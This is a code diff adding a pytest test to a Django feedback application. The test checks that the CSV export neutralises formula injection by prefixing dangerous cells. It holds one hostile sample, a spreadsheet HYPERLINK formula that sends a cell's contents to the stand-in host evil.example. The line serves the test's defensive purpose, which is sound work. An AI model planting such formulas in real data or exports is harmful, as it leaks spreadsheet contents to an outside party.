@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 
 import pytest
@@ -15,7 +17,7 @@ from knowflow.feedback import services
 from knowflow.feedback.models import Response, RetrospectiveAction
 from tests.conftest import signed_in
 from tests.factories import make_person
-from tests.feedback.helpers import GOOD, attend, ended_occurrence, open_requests, people
+from tests.feedback.helpers import GOOD, answer_all, attend, ended_occurrence, open_requests, people
 from tests.feedback.test_evidence import evidence_rows
 
 pytestmark = pytest.mark.django_db
@@ -200,3 +202,16 @@ def test_templates_page_lists_standards_and_enablers_can_copy() -> None:
         1,
         4,
     )
+
+
+def test_results_csv_neutralises_a_hostile_comment() -> None:
+    occurrence = ended_occurrence()
+    attend(occurrence, people(5))
+    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
+    answer_all(occurrence, {**GOOD, "first_step": hostile})
+    client = signed_in(make_person(role=Person.Role.ENABLER))
+    body = client.get(f"/feedback/sessions/{occurrence.session.slug}/export.csv").content.decode()
+    rows = list(csv.reader(io.StringIO(body)))
+    comments = [row[4] for row in rows if row[-1] == "comment"]
+    assert comments == ["'" + hostile] * 5
+    assert [cell for row in rows for cell in row if cell.startswith(("=", "@", "+", "-"))] == []
